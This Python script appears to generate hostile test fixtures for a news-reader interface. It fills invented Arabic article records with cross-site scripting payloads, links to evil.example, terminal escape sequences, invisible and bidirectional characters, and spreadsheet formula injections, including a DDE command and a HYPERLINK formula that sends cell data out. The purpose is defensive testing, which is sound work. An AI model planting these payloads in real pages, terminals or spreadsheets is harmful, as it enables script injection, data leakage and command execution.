#!/usr/bin/env python3
"""Articles whose every field attacks whoever shows it: a page, a terminal, a spreadsheet, another program.

usage: hostile.py SOURCE_DIR    the samples with hostile fields, as JSON lines (the page's tests read them: ui/e2e)

All texts are invented. What must not happen is said by the tests that use them. Standard library only.
"""
import json
import pathlib
import subprocess
import sys

# Markup, scripts, styles, templates, addresses: none of it may ever be more than text.
MARKUP = [
    "<script>window.pwned=1;alert(1)</script>",
    "\"><img src=x onerror=\"window.pwned=2;alert(2)\">",
    "'><svg/onload=window.pwned=3;alert(3)>",
    "</title></style></textarea></script><script>window.pwned=4;alert(4)</script>",
    "<iframe srcdoc=\"<script>parent.pwned=5</script>\"></iframe>",
    "<a href=\"javascript:window.pwned=6;alert(6)\" style=\"position:fixed;inset:0\">x</a>",
    "{{constructor.constructor('window.pwned=7')()}} ${alert(7)} #{7*7} <%= 7 %> {@html '<img src=x onerror=alert(7)>'}",
    "<style>@import 'http://evil.example/a.css';*{background:url(http://evil.example/b.png)}</style>",
    "<base href=\"http://evil.example/\"><meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(8)&gt;\">",
    "<form action=http://evil.example/><input autofocus onfocus=window.pwned=9;alert(9)></form>",
    "]]><x xmlns='http://www.w3.org/1999/xhtml'><script>window.pwned=10</script></x>",
    "&lt;script&gt;window.pwned=11&lt;/script&gt;&#60;img src=x onerror=alert(11)&#62;",
    "[x](javascript:alert(12)) ![y](http://evil.example/p.png) <http://evil.example/> `` ` ``",
]
LINKS = [
    "javascript:window.pwned=20;alert(20)",
    "JaVaScRiPt:alert(21)//https://news.example/",
    "data:text/html,<script>alert(22)</script>",
    "vbscript:msgbox(23)",
    "https://news.example/a?b=\"><script>alert(24)</script>",
    "https://news.example/' onmouseover='alert(25)",
    "//evil.example/26",
    "file:///etc/passwd",
    "https://news.example/plain?a=1&b=2",
]
# Sequences that steer a terminal: colour, title, link, clipboard, device control, C1 forms of them, deletion, overwriting.
ESCAPES = ["\x1b[31m", "\x1b]0;owned\x07", "\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\", "\x1b]52;c;ZXZpbA==\x07",
           "\x1bP+q544e\x1b\\", "\x1b[2J\x1b[H", "\u009b31m", "\u009d52;c;ZXZpbA==\u009c", "\u0090x\u009c", "\x7f\x7f\x7f", "\x08\x08",
           "\rover", "\x0e\x0f", "\x1b[6n", "\x1b(0"]
# Characters that turn a line around, or that nobody sees.
HIDDEN = ["\u202e", "\u202d", "\u2066", "\u2067", "\u202a", "\u200e", "\u200f", "\u061c", "\u200b", "\ufeff", "\u2060", "\u00ad",
          "\U000e0041\U000e0042", "\u2028", "\u2029"]
FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1",
            "\uff20SUM(A1)", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "=cmd|' /C calc'!A0", "\u200b=1+1", "\u202e=1+1",
            "\u00a0=1+1", "\u3000=1+1", "\u2212 1+1", "-2+3+cmd|'x'!A", "\ufeff=1+1", "'=1+1\"", "|x", "%0A=1+1"]

TEXTS = [
    "التقى وزير الخارجية الروسي سيرغي لافروف نظيره المالي عبد الله ديوب في موسكو يوم الخميس.\n"
    "وقال لافروف: \"{0} ستدعم روسيا مالي {0}\".",
    "نفى وزير الدفاع المالي ساديو كامارا هجوم القوات المالية على قرية في النيجر {0} يوم الأربعاء.",
    "هاجمت القوات المالية قرية في النيجر يوم الأربعاء {0} وقتلت خمسة مدنيين.\nوأعلنت شركة {0} للتعدين أنها ستغادر مالي.",
    "هاجمت القوات المالية قرية في النيجر يوم الأربعاء وقتلت تسعة مدنيين.\nوقال محمد {0} العلي إن روسيا عضو في منظمة {0} الدولية.",
]


def articles(payloads, links=LINKS):
    """An article a payload: it stands in every field and in the text, its sentences and its names."""
    return [{"uri": f"{payload}/{i}", "url": links[i % len(links)], "outlet": f"{payload} صحيفة {i % 3}", "author": payload,
             "published": f"2025-04-{i % 28 + 1:02}", "title": f"{payload} عنوان",
             "text": f"{payload} خبر\n\n" + TEXTS[i % len(TEXTS)].format(payload) + "\n"} for i, payload in enumerate(payloads)]


def hostile_samples(source):
    """The samples, so that every view has something to show, with markup in every field and in the text."""
    joined = subprocess.run([sys.executable, source / "tools/samples/index.py", source / "samples"], check=True,
                            capture_output=True).stdout
    out = []
    for i, sample in enumerate(map(json.loads, joined.splitlines())):
        payload = MARKUP[i % len(MARKUP)]
        first, rest = sample["text"].split("\n", 1)
        out.append({**sample, "uri": f"{payload}/{i}", "url": LINKS[i % len(LINKS)], "author": payload,
                    "outlet": f"{sample.get('outlet', '')} {MARKUP[(i + 3) % len(MARKUP)]}", "title": f"{payload} {first}",
                    "text": f"{first} {payload}\n{rest}\nوقال لافروف: \"{payload} ستدعم روسيا مالي\".\n"})
    return out + articles(MARKUP)


if __name__ == "__main__":
    for one in hostile_samples(pathlib.Path(sys.argv[1]).resolve()):
        print(json.dumps(one, ensure_ascii=False))
